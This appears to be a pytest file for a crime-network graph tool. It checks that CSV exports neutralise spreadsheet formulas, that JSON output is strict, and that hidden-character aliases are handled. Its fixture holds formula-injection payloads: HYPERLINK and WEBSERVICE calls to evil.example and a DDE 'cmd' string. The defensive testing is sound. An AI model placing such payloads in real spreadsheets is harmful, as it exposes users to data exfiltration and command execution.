"""The smaller defects of issue 13 (item 10, and item 9 over HTTP), each on its own.

Formula cells in every spreadsheet the CLI writes, JSON that is always JSON, a non-finite
``--resolution``, the hidden alias over HTTP, and no folder of this machine named in the seeds.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import textwrap
from pathlib import Path

import pytest

from tests.paths import PERU, ROOT

HOSTILE = textwrap.dedent("""\
    sources:
      - id: src-a
        title: "=HYPERLINK(\\"http://evil.example/\\",\\"click\\")"
    entities:
      - id: gang-a
        type: gang
        name: "=HYPERLINK(\\"http://evil.example/\\",\\"Gang A\\")"
        aliases: ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
        citations: [{source: src-a, quote: "=1+1"}]
      - id: gang-b
        type: gang
        name: Gang B
        citations: [{source: src-a}]
      - id: seizure-a
        type: seizure
        name: A seizure
        date: 2020-01-02
        figures: {kilograms: 1234567.5, deaths: 3}
        citations: [{source: src-a}]
    relations:
      - {type: allied_with, subject: gang-a, object: gang-b, confidence: B2,
         citations: [{source: src-a, quote: "=WEBSERVICE(\\"http://evil.example/\\")"}]}
      - {type: participated_in, subject: gang-a, object: seizure-a, confidence: B2,
         citations: [{source: src-a}]}
    """)
FORMULA = re.compile(r"^[=+\-@\t\r]")


@pytest.fixture
def hostile(tmp_path) -> Path:
    (tmp_path / "seeds").mkdir()
    (tmp_path / "seeds" / "data.yaml").write_text(HOSTILE, encoding="utf-8")
    return tmp_path / "seeds"


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize("args", [
    ["show", "gang-a"],
    ["query", "search", "Gang"],
    ["query", "ego", "gang-a"],
    ["query", "timeline", "gang-a"],
    ["query", "evidence", "gang-a--allied-with--gang-b"],
    ["query", "connections", "gang-a", "gang-b"],
    ["stats"],
])
def test_every_cli_csv_neutralizes_formulas(cli, hostile, args):
    proc = cli(*args, "--seeds", hostile, "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    cells = _cells(proc.stdout)
    assert cells and not [c for c in cells if FORMULA.match(c) and not re.fullmatch(r"-?\d+(\.\d+)?", c)], cells
    if args[0] == "show":
        assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_export_csv_and_the_cli_use_the_same_guard(cli, hostile, tmp_path):
    from crimegraph.exports.tables import excel_guard

    cli("export", "-f", "csv", "--seeds", hostile, "-o", tmp_path / "csv", check_rc=0)
    nodes = (tmp_path / "csv" / "nodes.csv").read_text(encoding="utf-8-sig")
    search = cli("query", "search", "Gang", "--seeds", hostile, "--format", "csv", check_rc=0).stdout
    name = "=HYPERLINK(\"http://evil.example/\",\"Gang A\")"
    assert excel_guard(name) in _cells(nodes) and excel_guard(name) in _cells(search)


def _strict(text: str):
    def refuse(token):
        raise ValueError(f"not JSON: {token}")

    return json.loads(text, parse_constant=refuse)


@pytest.mark.parametrize("args", [
    ["show", "seizure-a", "--format", "json"],
    ["query", "timeline", "gang-a", "--format", "json"],
    ["query", "communities", "--format", "json"],
    ["stats", "--format", "json"],
    ["validate", "--format", "json"],
])
def test_json_output_is_strict_json(cli, hostile, args):
    proc = cli(*args, "--seeds", hostile)
    assert proc.returncode == 0, proc.stderr
    _strict(proc.stdout)


def test_json_writers_refuse_non_finite_numbers():
    """Validation keeps Infinity out of the data; the writers refuse it anyway (never invalid JSON)."""
    from crimegraph.cli.common import emit_json
    from crimegraph.exports._common import json_text

    for write in (emit_json, json_text):
        with pytest.raises(ValueError):
            write({"kilograms": float("inf")})


@pytest.mark.parametrize("value", ["inf", "-inf", "nan", "11", "1e400"])
def test_resolution_must_be_finite_and_in_range(cli, value):
    proc = cli("query", "communities", "--resolution", value)
    assert proc.returncode == 2 and "--resolution" in proc.stderr and "Traceback" not in proc.stderr


def test_the_api_resolves_a_name_past_a_hidden_alias(tmp_path):
    """Item 9 over HTTP: an impostor's alias "\\ufeffTren de Aragua" does not take the name."""
    from tests.api.conftest import make_client

    from crimegraph.graph.registry import open_store

    seeds = tmp_path / "peru"
    shutil.copytree(PERU, seeds)
    with open(seeds / "actors.yaml", "a", encoding="utf-8") as fh:
        fh.write('  - id: impostor\n    type: gang\n    name: Impostor\n'
                 '    aliases: ["\\ufeffTren de Aragua"]\n'
                 '    citations: [{source: insightcrime-peru-profile}]\n')
    with pytest.warns(UserWarning, match="U\\+FEFF"):
        store = open_store("memory", seeds=seeds)
    with make_client(store) as client:
        r = client.get("/api/entity/Tren de Aragua")
        assert r.status_code == 200 and r.json()["entity"]["id"] == "tren-de-aragua"
        r = client.get("/api/connections", params={"a": "Tren de Aragua", "b": "Shining Path"})
        assert r.status_code == 200 and r.json()["from"]["id"] == "tren-de-aragua"
        alias = next(a for a in store.entity("impostor").aliases)
        assert alias.name == "Tren de Aragua"  # stored clean


def test_no_machine_folder_is_named_in_the_repository():
    """The seeds (and every tracked text file) name files by their place in the repository."""
    files = subprocess.run(["git", "ls-files"], cwd=ROOT, capture_output=True, text=True, check=True).stdout.split()
    pattern = re.compile(r"(?<![\w.~-])/(?:work|home|root|Users|mnt)/[\w.-]+")
    found = []
    for name in files:
        path = ROOT / name
        if path.suffix not in (".yaml", ".yml", ".md", ".py", ".rq", ".cypher", ".toml", ".txt", ".sh", ""):
            continue
        try:
            text = path.read_text(encoding="utf-8")
        except (UnicodeDecodeError, IsADirectoryError, FileNotFoundError):
            continue
        for m in pattern.finditer(text):
            found.append(f"{name}: {m.group()}")
    assert not found, found
    notes = (PERU / "sources.yaml").read_text(encoding="utf-8")
    assert "the seed profile text supplied with the project brief" in notes
